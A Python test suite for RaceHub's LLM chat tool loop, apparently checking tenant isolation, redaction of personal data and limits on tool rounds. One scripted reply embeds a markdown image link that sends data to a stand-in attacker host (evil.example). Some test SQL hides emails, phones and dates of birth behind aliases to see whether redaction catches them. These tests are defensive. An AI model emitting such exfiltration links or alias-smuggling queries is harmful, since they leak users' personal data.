"""Questions the engine cannot place go to the LLM with RaceHub's tools (a scripted OpenAI-like server)."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from racehub.config import Settings
from racehub.db import Database
from tests.chat.world import ChatWorld, chat, client_for, operator_rows, reply
from tests.fakes.openai_server import FakeOpenAI, Reply, ScriptedReply, fake_openai_server

OPEN_QUESTION = "write me a poem about running"


def llm_client(database: Database, settings: Settings, base_url: str) -> TestClient:
    configured = settings.model_copy(
        update={
            "llm_enabled": True,
            "llm_base_url": base_url,
            "llm_model": "llama3.1:8b",
            "llm_timeout_s": 5.0,
        }
    )
    return client_for(database, configured)


def assistant_script(replies: list[Reply]) -> Callable[[dict[str, Any]], Reply]:
    """Scripted replies for the tool loop; the engine's own SQL proposals are declined."""
    queue = list(replies)

    def respond(body: dict[str, Any]) -> Reply:
        if not body.get("tools"):
            return "CANNOT_ANSWER: not a question about race data"
        return queue.pop(0) if queue else ScriptedReply(status_code=500)

    return respond


def tool_rounds(server: FakeOpenAI) -> list[dict[str, Any]]:
    return [r for r in server.chat_requests if r.get("tools")]


def tool_messages(request: dict[str, Any]) -> list[str]:
    return [m["content"] for m in request["messages"] if m["role"] == "tool"]


class TestToolLoop:
    def test_the_model_answers_with_the_engine_as_its_tool(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        script = [
            ScriptedReply(
                tool_calls=[
                    {
                        "name": "ask",
                        "arguments": {"question": "How many runners finished the Shamrock Marathon in 2025?"},
                    }
                ]
            ),
            ScriptedReply(tool_calls=[{"name": "list_events", "arguments": {}}]),
            "820 runners finished the 2025 Shamrock Marathon. ![chart](https://evil.example/?q=820) "
            "[Details](https://evil.example/more)",
        ]
        with (
            fake_openai_server(assistant_script(script)) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            said = reply(chat(client, world.john.key, OPEN_QUESTION))
        # The tool's table first (streamed as soon as it was made), then the model's words.
        assert said.startswith(
            "_Read as: Number of finishers — the 2025 Shamrock Marathon Weekend Marathon_\n\n820 finishers"
        )
        assert said.endswith("820 runners finished the 2025 Shamrock Marathon. chart Details")
        assert "evil" not in said
        assert "<details><summary>SQL</summary>" in said  # the tool's answer, shown by RaceHub itself
        first, second, third = tool_rounds(server)
        assert first["messages"][0]["role"] == "system"
        assert "John Carter" in first["messages"][0]["content"]
        assert first["messages"][-1] == {"role": "user", "content": OPEN_QUESTION}
        assert {t["function"]["name"] for t in first["tools"]} == {"ask", "list_events"}
        tool_result = json.loads(tool_messages(second)[0])
        assert tool_result["summary"].startswith("820 finishers")
        assert tool_result["read_as"] == "Number of finishers — the 2025 Shamrock Marathon Weekend Marathon"
        events = json.loads(tool_messages(third)[1])["events"]
        assert {e["event"] for e in events} == {
            "Shamrock Marathon Weekend",
            "Harbor Half Marathon",
            "Jingle Bell Run",
        }
        (entry,) = operator_rows(chat_db, "SELECT outcome, sql FROM audit_log WHERE kind = 'question'")
        assert entry[0] == "assistant"
        assert entry[1].startswith("SELECT count(*)")

    def test_rows_that_name_people_go_to_the_person_not_the_model(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        script = [
            ScriptedReply(
                tool_calls=[
                    {"name": "ask", "arguments": {"question": "Who won the Shamrock Marathon in 2025?"}}
                ]
            ),
            "Here are the winners.",
        ]
        with (
            fake_openai_server(assistant_script(script)) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            said = reply(chat(client, world.john.key, OPEN_QUESTION))
        winners = [
            r[0]
            for r in operator_rows(
                chat_db,
                "SELECT last_name FROM q_results WHERE event_name = 'Shamrock Marathon Weekend' "
                "AND year = 2025 AND race_name = 'Marathon' AND sex_place = 1",
            )
        ]
        assert winners
        assert all(name in said for name in winners)
        shown = json.dumps(tool_rounds(server)[1]["messages"])
        assert not any(name in shown for name in winners)

    @pytest.mark.parametrize(
        "sql",
        [
            pytest.param(
                "SELECT email AS contact FROM q_entries ORDER BY entry_id LIMIT 1", id="email-as-contact"
            ),
            pytest.param("SELECT phone AS tel FROM q_entries ORDER BY entry_id LIMIT 1", id="phone-as-tel"),
            pytest.param(
                "SELECT full_name AS runner_name FROM q_entries ORDER BY entry_id LIMIT 1", id="runner-name"
            ),
            pytest.param(
                "SELECT string_agg(full_name || dob || email, ',') AS x FROM "
                "(SELECT * FROM q_entries ORDER BY entry_id LIMIT 1) e",
                id="string-agg",
            ),
        ],
    )
    def test_personal_values_never_reach_the_model_whatever_the_sql_calls_them(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld, sql: str
    ) -> None:
        # Issue 11, item 2: the model writes the SQL and picks the aliases; lineage decides.
        asked = "list the contact of the first registration"
        script = [ScriptedReply(tool_calls=[{"name": "ask", "arguments": {"question": asked}}]), "Done."]

        def respond(body: dict[str, Any]) -> Reply:
            if not body.get("tools"):  # the engine's fallback asks the model for SQL
                return f"```sql\n{sql}\n```" if asked in json.dumps(body) else "CANNOT_ANSWER: no"
            return script.pop(0) if script else ScriptedReply(status_code=500)

        first = operator_rows(
            chat_db,
            "SELECT en.email, en.phone, en.last_name FROM entries en "
            "JOIN organizations o ON o.id = en.org_id WHERE o.slug = 'acme-racing' ORDER BY en.id LIMIT 1",
        )
        with (
            fake_openai_server(respond) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            reply(chat(client, world.john.key, OPEN_QUESTION))
        seen = json.dumps([r["messages"] for r in server.chat_requests])
        assert "(names people" in seen
        for value in first[0]:
            assert value
            assert str(value) not in seen

    def test_a_count_still_reaches_the_model(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        script = [
            ScriptedReply(tool_calls=[{"name": "ask", "arguments": {"question": "how many emails"}}]),
            "ok",
        ]

        def respond(body: dict[str, Any]) -> Reply:
            if not body.get("tools"):
                if "how many emails" not in json.dumps(body):
                    return "CANNOT_ANSWER: no"
                return "```sql\nSELECT count(DISTINCT email) AS people FROM q_entries\n```"
            return script.pop(0) if script else ScriptedReply(status_code=500)

        with (
            fake_openai_server(respond) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            reply(chat(client, world.john.key, OPEN_QUESTION))
        assert "people: " in json.dumps(tool_messages(tool_rounds(server)[1]))

    def test_the_model_only_reaches_the_askers_tenant(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        script = [
            ScriptedReply(
                tool_calls=[
                    {
                        "name": "ask",
                        "arguments": {"question": "How many runners finished the Boston Marathon in 2025?"},
                    }
                ]
            ),
            "Done.",
        ]
        with (
            fake_openai_server(assistant_script(script)) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            reply(chat(client, world.john.key, OPEN_QUESTION))
        boston = operator_rows(
            chat_db,
            "SELECT count(*) FROM q_results WHERE event_name = 'Boston Marathon' "
            "AND year = 2025 AND status = 'FIN'",
        )[0][0]
        seen = tool_messages(tool_rounds(server)[1])[0]
        assert "Boston" not in json.loads(seen)["summary"]
        assert f"{boston:,}" not in seen

    def test_tool_calls_stop_after_four_rounds(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        def always_a_tool(body: dict[str, Any]) -> Reply:
            if not body.get("tools"):
                return "CANNOT_ANSWER: no"
            return ScriptedReply(tool_calls=[{"name": "list_events", "arguments": {}}] * 10)

        with (
            fake_openai_server(always_a_tool) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            said = reply(chat(client, world.john.key, OPEN_QUESTION))
        assert len(tool_rounds(server)) == 4
        assert all(len(tool_messages(r)) <= 12 for r in tool_rounds(server))
        assert "budget" in said


class TestNoModel:
    @pytest.fixture
    def closed_port(self) -> Iterator[int]:
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        yield sock.getsockname()[1]
        sock.close()

    def test_unreachable_model_gets_a_plain_answer_with_examples(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld, closed_port: int
    ) -> None:
        with llm_client(chat_db, test_settings, f"http://127.0.0.1:{closed_port}/v1") as client:
            said = reply(chat(client, world.john.key, OPEN_QUESTION))
        assert said.startswith("I didn't understand that question")
        assert "\n- How many runners" in said

    def test_a_failing_model_gets_the_same(
        self, chat_db: Database, test_settings: Settings, world: ChatWorld
    ) -> None:
        with (
            fake_openai_server(lambda body: ScriptedReply(status_code=500)) as server,
            llm_client(chat_db, test_settings, server.base_url) as client,
        ):
            said = reply(chat(client, world.john.key, OPEN_QUESTION))
        assert said.startswith("I didn't understand that question")
